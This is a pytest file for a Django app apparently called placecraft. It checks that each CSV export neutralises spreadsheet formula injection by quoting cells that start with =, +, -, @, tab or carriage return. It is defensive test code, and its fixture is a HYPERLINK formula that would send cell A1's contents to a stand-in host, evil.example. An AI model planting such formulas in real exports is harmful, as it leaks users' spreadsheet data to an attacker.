"""Every CSV download neutralises text a spreadsheet would run as a formula (OWASP's CSV
injection rule): a cell that starts with =, +, -, @, a tab or a carriage return gets a leading
single quote. One export of each app, through its URL, with a hostile cell in it."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from placecraft.budgeting.tests.factories import make_round
from placecraft.core.csvfiles import safe_cell
from placecraft.evidence import services as evidence_services
from placecraft.evidence.tests.factories import add_observations, make_indicator
from placecraft.frameworks.tests.factories import make_survey
from placecraft.missions.tests.factories import make_mission
from placecraft.partners.tests.factories import commitment
from placecraft.places import services as places_services
from placecraft.places.models import Organisation

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def rows(response) -> list[list[str]]:
    assert response.status_code == 200
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return list(csv.reader(io.StringIO(body)))


def cells(response) -> list[str]:
    return [cell for row in rows(response) for cell in row]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_neutralised(found: list[str], text: str = HOSTILE) -> None:
    assert "'" + text in found
    formulas = [
        cell
        for cell in found
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")) and not is_number(cell)
    ]
    assert formulas == []


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+44 1234", "'+44 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("plain", "plain"),
        ("", ""),
        (-3.5, -3.5),  # a number the product writes stays a number
        (-2, -2),
    ],
)
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_audit_csv(client, world, bob):
    client.force_login(bob)
    places_services.update_organisation(
        actor=bob, organisation=world.council, data={"name": HOSTILE}
    )
    response = client.get(reverse("audit_csv", args=[world.place.slug, world.council.slug]))
    assert_neutralised(cells(response))


def test_budget_projects_csv(world):
    round = make_round(world, costs={HOSTILE: 100})
    found = cells(Client().get(reverse("pb_projects_csv", args=[world.place.slug, round.pk])))
    assert_neutralised(found)


def test_system_map_csv(world):
    commitment(world)
    Organisation.objects.filter(pk=world.partner.pk).update(name=HOSTILE)
    nodes = Client().get(reverse("system_map_nodes", args=[world.place.slug]))
    assert_neutralised(cells(nodes))


def test_mission_csv(world):
    mission = make_mission(world, "moving-freely", status="active")
    indicator = make_indicator(world, "active-travel", unit="-1+1 people")
    add_observations(indicator, "E06000001", {"2021": -4.5})
    evidence_services.link_indicator(
        actor=None,
        mission=mission,
        indicator=indicator,
        data={"geography_code": "E06000001", "headline": True},
    )
    table = rows(Client().get(reverse("mission_csv", args=[world.place.slug, mission.slug])))
    found = [cell for row in table for cell in row]
    assert_neutralised(found, "-1+1 people")
    # A figure the product writes is still a number a spreadsheet can add up.
    assert table[1][table[0].index("value")] == "-4.5"


def test_survey_responses_csv(world, bob):
    survey = make_survey(world, {HOSTILE: 5})
    client = Client()
    client.force_login(bob)
    response = client.get(reverse("exercise_csv", args=[world.place.slug, survey.pk]))
    assert_neutralised(cells(response))
